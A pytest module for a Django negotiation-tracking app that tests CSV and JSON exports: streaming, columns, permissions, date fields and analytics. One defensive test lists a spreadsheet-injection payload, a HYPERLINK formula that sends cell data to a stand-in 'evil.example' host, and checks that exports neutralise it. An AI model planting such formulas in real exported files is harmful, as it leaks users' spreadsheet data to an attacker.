"""CSV and JSON exports of what each page shows; the whole-negotiation document."""

import codecs
import csv
import datetime
import io
import json
import re

import pytest
from django.core.management import call_command
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from negotiations.exchange import exports
from negotiations.models import Issue, Negotiation, Position, date_columns
from negotiations.text.dates import PartialDate, Precision
from tests.factories import (
    make_citation,
    make_party,
    make_position,
    make_proposal,
    make_provision,
    make_source,
    with_reason,
)


def dated(text):
    return date_columns(PartialDate.parse(text))


def body(response):
    assert response.status_code == 200
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def csv_rows(response):
    return list(csv.DictReader(io.StringIO(body(response))))


def url(name, *args, fmt="csv"):
    return reverse(f"negotiations:{name}", kwargs={"fmt": fmt, **_kwargs(name, args)})


def _kwargs(name, args):
    keys = {
        "positions_export": ["slug"],
        "matrix_export": ["slug"],
        "snapshot_export": ["slug"],
        "party_export": ["slug", "party"],
        "issue_export": ["slug", "issue"],
        "thread_export": ["slug", "issue", "party"],
        "sources_export": [],
        "search_export": [],
    }[name]
    return dict(zip(keys, args, strict=True))


def add_positions(world, count):
    """Many statements without a citation each (fast), one citation on the first."""
    for i in range(count):
        with_reason(
            Position(
                issue=world["maps"],
                party=world["beta"],
                stance=Position.Stance.DEMAND,
                summary=f'Statement {i}, with a comma and a "quote".',
                date=datetime.date(2024, 3, 1),
                date_precision=Precision.MONTH,
            )
        )


# --- streaming -------------------------------------------------------------------------


def test_all_positions_csv_is_streamed_in_many_chunks(client, reader, world):
    add_positions(world, 3 * exports.ROWS_PER_CHUNK)
    client.force_login(reader)
    response = client.get(url("positions_export", "talks"))
    assert isinstance(response, StreamingHttpResponse)
    assert response.streaming is True
    assert not isinstance(response.streaming_content, list | tuple | bytes)
    chunks = list(response.streaming_content)
    assert len(chunks) > 3  # header + rows a batch at a time, never one big body
    assert max(len(c) for c in chunks) < sum(len(c) for c in chunks) / 3
    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))
    assert len(rows) == 3 * exports.ROWS_PER_CHUNK + 2
    assert response["Content-Disposition"] == 'attachment; filename="talks-positions.csv"'


def test_all_positions_json_is_streamed_and_parses(client, reader, world):
    add_positions(world, 2 * exports.ROWS_PER_CHUNK)
    client.force_login(reader)
    response = client.get(url("positions_export", "talks", fmt="json"))
    assert response.streaming is True
    chunks = list(response.streaming_content)
    assert len(chunks) > 2
    data = json.loads(b"".join(chunks))
    assert isinstance(data, list) and len(data) == 2 * exports.ROWS_PER_CHUNK + 2
    assert set(data[0]) == set(exports.POSITION_COLUMNS)


def test_position_rows_read_the_database_with_an_iterator(world, monkeypatch):
    """values_list(...).iterator(chunk_size): no queryset cache holding every row."""
    calls = []
    original = type(Position.objects.all()).iterator

    def spy(self, chunk_size=None):
        calls.append(chunk_size)
        return original(self, chunk_size=chunk_size)

    monkeypatch.setattr(type(Position.objects.all()), "iterator", spy)
    rows = exports.position_rows(Position.objects.all())
    assert calls == []  # lazy until read
    assert len(list(rows)) == 2
    assert calls == [exports.ITERATOR_CHUNK]


def test_positions_export_query_count_does_not_grow(client, reader, world):
    client.force_login(reader)

    def count():
        with CaptureQueriesContext(connection) as ctx:
            body(client.get(url("positions_export", "talks")))
        return len(ctx)

    small = count()
    for _ in range(20):
        make_position(world["maps"], world["gamma"])
    assert count() == small


# --- contents --------------------------------------------------------------------------


def test_positions_csv_columns(client, reader, world):
    make_citation(make_source(title="Second source"), position=world["second"])
    client.force_login(reader)
    rows = csv_rows(client.get(url("positions_export", "talks")))
    assert [r["summary"] for r in rows] == [
        "Demands a corridor without controls.",
        "Demands a corridor without any border controls.",
    ]
    second = rows[1]
    assert second["uid"] == str(world["second"].uid)
    assert (second["issue_slug"], second["issue_title"]) == ("corridor", "Transit corridor")
    assert (second["party_slug"], second["party_name"]) == ("alpha", "Alpha")
    assert (second["stance"], second["movement"]) == ("demand", "hardened")
    assert (second["date"], second["date_display"]) == ("2024-02", "Feb 2024")
    assert second["first_source"] == "Interview with the president"
    assert second["citations"] == "2"


def test_positions_export_filters_party_and_issue(client, reader, world):
    make_position(world["maps"], world["beta"], summary="Maps.")
    client.force_login(reader)
    rows = csv_rows(client.get(url("positions_export", "talks"), {"party": "beta"}))
    assert [r["summary"] for r in rows] == ["Maps."]


def test_dashboard_export_is_the_matrix_with_its_filters(client, reader, world):
    client.force_login(reader)
    rows = csv_rows(client.get(url("matrix_export", "talks")))
    assert len(rows) == 2 * 3  # issues × parties, empty cells included
    cell = next(r for r in rows if (r["issue_slug"], r["party_slug"]) == ("corridor", "alpha"))
    assert cell["summary"] == "Demands a corridor without any border controls."
    assert (cell["shifts"], cell["last_shift"], cell["last_shift_date"]) == (
        "1",
        "hardened",
        "2024-02",
    )
    rows = csv_rows(client.get(url("matrix_export", "talks"), {"party": "beta", "issue": "maps"}))
    assert [(r["issue_slug"], r["party_slug"], r["summary"]) for r in rows] == [
        ("maps", "beta", "")
    ]
    data = json.loads(body(client.get(url("matrix_export", "talks", fmt="json"))))
    assert len(data) == 6 and data[0]["shifts"] in (0, 1)


def test_party_issue_and_thread_exports(client, reader, world):
    make_position(world["corridor"], world["beta"], summary="Beta on the corridor.")
    client.force_login(reader)
    party = csv_rows(client.get(url("party_export", "talks", "alpha")))
    assert [(r["issue_slug"], r["summary"]) for r in party] == [
        ("corridor", "Demands a corridor without any border controls."),
        ("maps", ""),
    ]
    issue = csv_rows(client.get(url("issue_export", "talks", "corridor")))
    assert {r["party_slug"] for r in issue} == {"alpha", "beta"} and len(issue) == 3
    thread = csv_rows(client.get(url("thread_export", "talks", "corridor", "alpha")))
    assert len(thread) == 2 and {r["party_slug"] for r in thread} == {"alpha"}
    assert client.get(url("thread_export", "talks", "corridor", "nobody")).status_code == 404


def test_snapshot_export_uses_the_pages_parameters(client, reader, world):
    client.force_login(reader)
    rows = csv_rows(
        client.get(url("snapshot_export", "talks"), {"a": "Jan 2024", "b": "2024-02-15"})
    )
    assert [(r["issue_slug"], r["party_slug"], r["status"]) for r in rows] == [
        ("corridor", "alpha", "changed")
    ]
    assert rows[0]["a_date"] == "2024-01-10" and rows[0]["b_date"] == "2024-02"
    response = client.get(url("snapshot_export", "talks"), {"a": "whenever", "b": "2024"})
    assert response.status_code == 400
    assert client.get(url("snapshot_export", "talks"), {"a": "2024"}).status_code == 400
    before_a_compare = csv_rows(client.get(url("snapshot_export", "talks")))
    assert before_a_compare == []


def test_sources_export(client, reader, world):
    make_source(title="Undated leak", date=None)
    client.force_login(reader)
    rows = csv_rows(client.get(url("sources_export")))
    by_title = {r["title"]: r for r in rows}
    assert by_title["Interview with the president"]["citations"] == "2"
    assert by_title["Undated leak"]["date"] == "" and by_title["Undated leak"]["citations"] == "0"
    data = json.loads(body(client.get(url("sources_export", fmt="json"))))
    assert {d["title"]: d["date"] for d in data}["Undated leak"] is None


def test_search_export_has_every_result_with_filters(client, reader, world):
    client.force_login(reader)
    rows = csv_rows(client.get(url("search_export"), {"q": "corridor", "kind": "positions"}))
    assert len(rows) == 2 and {r["kind"] for r in rows} == {"position"}
    assert rows[0]["url"].startswith("http://testserver/n/talks/issues/corridor/alpha/#position-")
    assert "corridor" in rows[0]["excerpt"] and "<mark>" not in rows[0]["excerpt"]
    rows = csv_rows(client.get(url("search_export"), {"q": "corridor", "to": "Jan 2024"}))
    assert len(rows) == 1
    assert client.get(url("search_export"), {"q": "x", "from": "nonsense"}).status_code == 400


def test_csv_keeps_text_exactly(client, reader, world):
    tricky = 'Line one\nline two, "quoted", Հայաստան; =1+1'
    make_position(world["maps"], world["beta"], summary=tricky)
    client.force_login(reader)
    rows = csv_rows(client.get(url("positions_export", "talks"), {"party": "beta"}))
    assert rows[0]["summary"] == tricky


def test_unknown_format_is_404(client, reader, world):
    client.force_login(reader)
    assert client.get("/n/talks/positions.xlsx").status_code == 404


# --- the pages link their downloads ----------------------------------------------------


@pytest.mark.parametrize(
    "page, export",
    [
        ("negotiations:negotiation", "/n/talks/export.csv"),
        ("negotiations:party", "/n/talks/parties/alpha/export.csv"),
        ("negotiations:issue", "/n/talks/issues/corridor/export.csv"),
        ("negotiations:thread", "/n/talks/issues/corridor/alpha/export.csv"),
        ("negotiations:snapshot", "/n/talks/snapshot/export.csv"),
        ("negotiations:sources", "/sources/export.csv"),
    ],
)
def test_pages_link_their_downloads(client, reader, world, page, export):
    args = {
        "negotiations:negotiation": ["talks"],
        "negotiations:party": ["talks", "alpha"],
        "negotiations:issue": ["talks", "corridor"],
        "negotiations:thread": ["talks", "corridor", "alpha"],
        "negotiations:snapshot": ["talks"],
        "negotiations:sources": [],
    }[page]
    client.force_login(reader)
    content = client.get(reverse(page, args=args)).content.decode()
    assert f'href="{export}"' in content
    assert f'href="{export[:-4]}.json"' in content
    assert body(client.get(export))  # the link works


def test_dashboard_links_carry_the_filters_and_offer_everything(client, reader, world):
    client.force_login(reader)
    content = client.get("/n/talks/", {"party": "beta", "issue": "maps"}).content.decode()
    assert 'href="/n/talks/export.csv?party=beta&amp;issue=maps"' in content
    assert 'href="/n/talks/positions.json?party=beta&amp;issue=maps"' in content
    assert 'href="/n/talks/document.json"' in content and "Download everything (JSON)" in content


def test_search_page_links_its_export(client, reader, world):
    client.force_login(reader)
    content = client.get(reverse("negotiations:search"), {"q": "corridor"}).content.decode()
    assert 'href="/search/export.csv?q=corridor"' in content


# --- the whole negotiation -------------------------------------------------------------


def test_negotiation_document_download_matches_the_command(client, reader, db):
    call_command("load_seeds", stdout=io.StringIO())
    client.force_login(reader)
    response = client.get(reverse("negotiations:export_negotiation", args=["armenia-azerbaijan"]))
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="armenia-azerbaijan.json"'
    out = io.StringIO()
    call_command("export_negotiation", "armenia-azerbaijan", stdout=out)
    assert response.content.decode() == out.getvalue()
    assert json.loads(response.content)["format"] == "redline/1"


# --- who may export --------------------------------------------------------------------


EXPORTS = [
    "/n/talks/export.csv",
    "/n/talks/positions.csv",
    "/n/talks/document.json",
    "/n/talks/parties/alpha/export.json",
    "/n/talks/issues/corridor/export.csv",
    "/n/talks/issues/corridor/alpha/export.json",
    "/n/talks/snapshot/export.csv?a=2024&b=2025",
    "/sources/export.csv",
    "/search/export.json?q=corridor",
]


@pytest.mark.parametrize("path", EXPORTS)
def test_export_permissions(client, world, reader, stranger, path):
    response = client.get(path)
    assert response.status_code == 302 and response["Location"].startswith("/login/")
    client.force_login(stranger)
    assert client.get(path).status_code == 403
    client.force_login(reader)
    assert client.get(path).status_code == 200


def test_proposals_provisions_and_compare_download(client, reader, db):
    import csv
    import io

    from django.core.management import call_command

    call_command("load_seeds", stdout=io.StringIO())
    client.force_login(reader)

    def rows(url):
        response = client.get(url)
        assert response.status_code == 200, url
        return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))

    slug = "armenia-azerbaijan"
    proposals = rows(f"/n/{slug}/proposals/export.csv")
    assert {p["slug"] for p in proposals} >= {"az-proposal-2023-12", "am-proposal-2024-01-04"}
    armenian = next(p for p in proposals if p["slug"] == "am-proposal-2024-01-04")
    # Described only (#15): the seeds no longer invent its articles.
    assert (armenian["responds_to"], armenian["date"], armenian["provisions"]) == (
        "az-proposal-2023-12", "2024-01-04", "0",
    )  # fmt: skip
    provisions = rows(f"/n/{slug}/proposals/az-framework-concept/export.csv")
    assert [p["label"] for p in provisions] == ["Point 1", "Point 2", "Point 3", "Point 4"]
    described = rows(f"/n/{slug}/compare/export.csv?a=az-proposal-2023-12&b=am-proposal-2024-01-04")
    assert len(described) == Issue.objects.filter(negotiation__slug=slug).count()
    # Two texts with words, made here: B rewords A's article and adds one.
    negotiation = Negotiation.objects.get(slug=slug)
    a = make_proposal(negotiation, slug="text-a")
    b = make_proposal(negotiation, slug="text-b", responds_to=a)
    make_provision(
        a, label="Art. 1", text="The Parties recognise each other's territorial integrity."
    )
    make_provision(
        b,
        label="Art. 1",
        text="The Parties recognise each other's territorial integrity and borders.",
    )
    make_provision(b, label="Art. 2", text="Transit across either Party follows its own controls.")
    compared = rows(f"/n/{slug}/compare/export.csv?a=text-a&b=text-b")
    assert sorted(r["status"] for r in compared) == ["added", "reworded"]
    assert client.get(f"/n/{slug}/compare/export.csv?a=nope&b=x").status_code == 400
    page = client.get(f"/n/{slug}/proposals/").content.decode()
    assert f"/n/{slug}/proposals/export.csv" in page


# --- formulas in CSV ---------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Details")',
    "-5 km from the border",  # harmless, and prefixed all the same (OWASP)
    "+1 day",
    "@SUM(A1:A9)",
    "\tindented",
    "\rcarriage return",
]


def test_csv_neutralises_cells_a_spreadsheet_would_run_and_json_keeps_them(client, reader, world):
    """Fails on the old main: cells starting with = + - @, a tab or a carriage return were
    written raw, and a spreadsheet opening the CSV ran =HYPERLINK(…) as a formula."""
    for text in FORMULAS:
        make_position(world["maps"], world["beta"], summary=text, quote=text)
    client.force_login(reader)
    rows = csv_rows(client.get(url("positions_export", "talks"), {"party": "beta"}))
    assert sorted(r["summary"] for r in rows) == sorted("'" + t for t in FORMULAS)
    assert sorted(r["quote"] for r in rows) == sorted("'" + t for t in FORMULAS)
    assert {r["citations"] for r in rows} == {"1"}  # numbers are not text: left alone
    matrix = csv_rows(client.get(url("matrix_export", "talks")))
    assert any(r["summary"].startswith("'") for r in matrix)
    data = json.loads(body(client.get(url("positions_export", "talks", fmt="json"))))
    assert sorted(d["summary"] for d in data if d["party_slug"] == "beta") == sorted(FORMULAS)


def test_the_csv_cell_function_leaves_other_values_alone():
    assert exports.csv_cell(-5) == -5 and exports.csv_cell(None) == ""
    assert exports.csv_cell("5 km") == "5 km" and exports.csv_cell("a=b") == "a=b"
    assert exports.csv_cell(datetime.date(2024, 1, 2)) == "2024-01-02"
    assert exports.csv_cell("=1+1") == "'=1+1"


def test_analytics_csv_neutralises_formulas_too(client, reader, world):
    dash = make_party(world["negotiation"], slug="-dash", name="Dash")  # a valid slug
    make_position(world["maps"], dash)
    client.force_login(reader)
    export = reverse("negotiations:analytics_export", kwargs={"slug": "talks", "fmt": "csv"})
    rows = list(csv.DictReader(io.StringIO(body(client.get(export, {"table": "since"})))))
    assert "'-dash" in {r["party"] for r in rows}


# --- dates a data user can compute with (issue #19 item 3) ---------------------------------

DATE_HEADER = [
    "date",
    "date_display",
    "date_start",
    "date_end",
    "date_precision",
    "date_qualifier",
    "date_approximate",
    "date_inferred",
    "date_as_written",
]
ISO_DAY = re.compile(r"\d{4}-\d\d-\d\d")
WRITTEN = [
    "late December 2023",
    "2024-Q1",
    "before 1 Feb 2024",
    "between 8 and 11 Aug 2025",
    "c. 2021",
    "after 8 Aug 2025",
    "as of 12 Feb 2024",
    "Jan 2024?",
]


def _pandas():
    try:
        import pandas
    except ImportError:
        return None
    return pandas


def test_positions_export_has_date_columns_a_data_user_can_compute_with(client, reader, world):
    """Fails on the old main: only `date` ("2023-12~", "2024-Q1") and `date_display`,
    which pandas.to_datetime turns into NaT."""
    for text in WRITTEN:
        make_position(world["maps"], world["beta"], summary=text, **dated(text))
    client.force_login(reader)
    text = body(client.get(url("positions_export", "talks")))
    header = next(csv.reader(io.StringIO(text)))
    start = header.index("date")
    assert header[start : start + len(DATE_HEADER)] == DATE_HEADER
    rows = {r["summary"]: r for r in csv.DictReader(io.StringIO(text))}
    late = rows["late December 2023"]
    assert [late[c] for c in DATE_HEADER] == [
        "late 2023-12", "late Dec 2023", "2023-12-21", "2023-12-31", "month", "late",
        "False", "False", "late December 2023",
    ]  # fmt: skip
    assert (rows["2024-Q1"]["date_start"], rows["2024-Q1"]["date_end"]) == (
        "2024-01-01", "2024-03-31"
    )  # fmt: skip
    before, after = rows["before 1 Feb 2024"], rows["after 8 Aug 2025"]
    assert (before["date_start"], before["date_end"], before["date_qualifier"]) == (
        "", "2024-01-31", "before"
    )  # fmt: skip
    assert (after["date_start"], after["date_end"]) == ("2025-08-09", "")
    assert rows["Jan 2024?"]["date_inferred"] == "True"
    for row in rows.values():
        # Every day is an ISO day (or empty on an open side), and both forms read back.
        for column in ("date_start", "date_end"):
            assert row[column] == "" or ISO_DAY.fullmatch(row[column]), row
        assert PartialDate.parse(row["date"]) == PartialDate.parse(row["date_display"])
    pandas = _pandas()
    if pandas is not None:
        frame = pandas.read_csv(io.StringIO(text), keep_default_na=False)
        starts = pandas.to_datetime(frame.date_start.replace("", None), format="ISO8601")
        assert starts.notna().sum() == sum(1 for r in rows.values() if r["date_start"])
    data = json.loads(body(client.get(url("positions_export", "talks", fmt="json"))))
    by_summary = {d["summary"]: d for d in data}
    assert by_summary["before 1 Feb 2024"]["date_start"] is None
    assert by_summary["late December 2023"]["date_approximate"] is False


def test_every_seed_statement_exports_iso_first_and_last_days(client, reader, db):
    """Fails on the old main, where 19 of the 26 exported dates were not ISO days."""
    call_command("load_seeds", stdout=io.StringIO())
    client.force_login(reader)
    rows = csv_rows(client.get(url("positions_export", "armenia-azerbaijan")))
    assert rows
    for row in rows:
        # Empty only on a side the date leaves open ("after the 2020 war", para. 12).
        open_start = row["date_qualifier"] in ("before", "by", "as_of")
        open_end = row["date_qualifier"] == "after"
        assert ISO_DAY.fullmatch(row["date_start"]) or open_start and not row["date_start"], row
        assert ISO_DAY.fullmatch(row["date_end"]) or open_end and not row["date_end"], row
        assert not (row["date_start"] and row["date_end"]) or row["date_start"] <= row["date_end"]
    pandas = _pandas()
    if pandas is not None:
        frame = pandas.read_csv(
            io.StringIO(body(client.get(url("positions_export", "armenia-azerbaijan"))))
        )
        assert pandas.to_datetime(frame.date_start, format="ISO8601").notna().all()


@pytest.mark.parametrize(
    ("name", "args", "prefixes"),
    [
        ("matrix_export", ["talks"], ["date"]),
        ("snapshot_export", ["talks"], ["a_date", "b_date"]),
        ("sources_export", [], ["date"]),
        ("search_export", [], ["date"]),
    ],
)
def test_every_dated_export_has_the_date_columns(client, reader, world, name, args, prefixes):
    make_position(world["maps"], world["beta"], summary="Maps, late.", **dated("late Dec 2023"))
    client.force_login(reader)
    query = {"a": "2023", "b": "2025", "q": "maps"}
    text = body(client.get(url(name, *args), query))
    header = next(csv.reader(io.StringIO(text)))
    for prefix in prefixes:
        columns = [c.replace("date", prefix, 1) for c in DATE_HEADER]
        start = header.index(prefix)
        assert header[start : start + len(columns)] == columns
    for row in csv.DictReader(io.StringIO(text)):
        for prefix in prefixes:
            for column in (f"{prefix}_start", f"{prefix}_end"):
                assert row[column] == "" or ISO_DAY.fullmatch(row[column]), (column, row)


def test_a_csv_for_spreadsheets_starts_with_a_byte_order_mark(client, reader, world):
    """Fails on the old main: no CSV had a byte-order mark, so Excel on Windows showed
    "Türkiye" and Armenian text garbled (issue #19); scripts still get plain UTF-8."""
    make_position(world["maps"], world["beta"], summary="Türkiye and Հայաստան")
    client.force_login(reader)
    export = url("positions_export", "talks")
    plain = body(client.get(export)).encode()
    marked = b"".join(client.get(export, {"bom": "1"}).streaming_content)
    assert not plain.startswith(codecs.BOM_UTF8)
    assert marked == codecs.BOM_UTF8 + plain
    assert "Türkiye and Հայաստան" in marked.decode("utf-8-sig")
    page = client.get(reverse("negotiations:negotiation", args=["talks"])).content.decode()
    assert "bom=1" in page and "for Excel" in page


# --- analytics as arrays, one per table (issue #19 item 3) ---------------------------------

ANALYTICS_KEYS = {
    "periods": ["party", "period", "new", "hardened", "softened", "dropped", "conceded", "total"],
    "changed": ["party", "issue", "shifts", "last_shift"],
    "since": ["party", "issue", "last_movement", "movement", "moved", "days", "reference"],
}


def analytics_url(fmt):
    return reverse("negotiations:analytics_export", kwargs={"slug": "talks", "fmt": fmt})


@pytest.mark.parametrize("table", list(ANALYTICS_KEYS))
def test_analytics_json_is_an_array_of_objects_per_table_with_the_csv_keys(
    client, reader, world, table
):
    """Fails on the old main, where analytics.json was one object holding every table."""
    make_position(world["corridor"], world["beta"], movement=Position.Movement.SOFTENED)
    client.force_login(reader)
    query = {"table": table, "ref": "2024-06-30"}
    rows = json.loads(body(client.get(analytics_url("json"), query)))
    assert isinstance(rows, list) and rows
    assert all(list(row) == ANALYTICS_KEYS[table] for row in rows)
    header = next(csv.reader(io.StringIO(body(client.get(analytics_url("csv"), query)))))
    assert header == ANALYTICS_KEYS[table]
    assert len(rows) == len(csv_rows(client.get(analytics_url("csv"), query)))


def test_an_empty_analytics_json_links_its_csv_twin_that_names_the_columns(client, reader, world):
    """pandas reads no columns from `[]`: the Link header's CSV twin gives them."""
    pandas = pytest.importorskip("pandas")
    client.force_login(reader)
    query = {"table": "since", "ref": "2021", "party": "alpha"}  # before any statement
    response = client.get(analytics_url("json"), query)
    assert pandas.read_json(io.StringIO(body(response))).empty
    link = re.fullmatch(r'<([^>]+)>; rel="alternate"; type="text/csv"', response["Link"])
    assert link and link[1].startswith(analytics_url("csv") + "?")
    twin = client.get(link[1])
    frame = pandas.read_csv(io.StringIO(body(twin)))
    assert list(frame.columns) == ANALYTICS_KEYS["since"] and frame.empty
    assert "party=alpha" in link[1] and "table=since" in link[1]


def test_the_analytics_csv_has_no_link_header_and_unknown_tables_are_404(client, reader, world):
    client.force_login(reader)
    assert not client.get(analytics_url("csv")).has_header("Link")
    assert client.get(analytics_url("json"), {"table": "filters"}).status_code == 404
